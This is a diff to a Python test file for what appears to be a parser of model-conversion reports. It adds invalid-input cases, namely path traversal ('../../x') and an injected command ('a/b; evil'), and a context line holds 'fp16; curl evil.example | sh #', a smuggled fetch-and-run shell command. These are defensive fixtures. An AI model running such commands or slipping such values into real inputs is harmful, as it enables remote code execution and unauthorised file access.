@@ -189,6 +189,11 @@ CHANGES: dict[str, tuple[tuple[str | int, ...], Any]] = {
     "no date": (("finished",), "yesterday"),
     "a command for a dtype": (("plan", "dtype"), "fp16; curl evil.example | sh #"),
     "a branch for a commit": (("source",), {"kind": "hub", "repo_id": "me/model", "revision": "main"}),
+    "a path for a weight file of the source": (("source", "weight_files", 0, "file"), "../../x"),
+    "a base that is none": (("source", "base"), {"kind": "hub", "repo_id": "../../x", "revision": "a" * 40}),
+    "a command for a base": (("source", "base"), {"kind": "hub", "repo_id": "a/b; evil", "revision": "a" * 40}),
+    "a branch for the commit of a base": (("source", "base"), {"kind": "hub", "repo_id": "a/b", "revision": "main"}),
+    "another kind of base": (("source", "base"), {"kind": "s3", "repo_id": "a/b", "revision": "a" * 40}),
     "a shard that was not planned": (("plan", "shards", 0, "file"), "model-00009-of-00009.safetensors"),
     "fewer bytes than planned": (("plan", "total_bytes"), 7),
     "a shard with less than its tensors": (("shards", 0, "bytes"), 7),
@@ -247,3 +252,10 @@ def test_a_report_that_the_page_would_show_names_a_real_commit(document: dict[st
     changed["source"]["revision"] = "a/../../b"
     with pytest.raises(SourceError, match="source"):
         parse_report(json.dumps(changed))
+
+
+def test_a_base_is_a_repo_at_a_commit_or_a_folder_of_any_name(document: dict[str, Any]) -> None:
+    changed = copy.deepcopy(document)
+    for base in (RepoRef("hub", "me/base", "a" * 40), RepoRef("folder", "my base; ../x", "1")):
+        changed["source"]["base"] = {"kind": base.kind, "repo_id": base.repo_id, "revision": base.revision}
+        assert parse_report(json.dumps(changed)).source.base == base
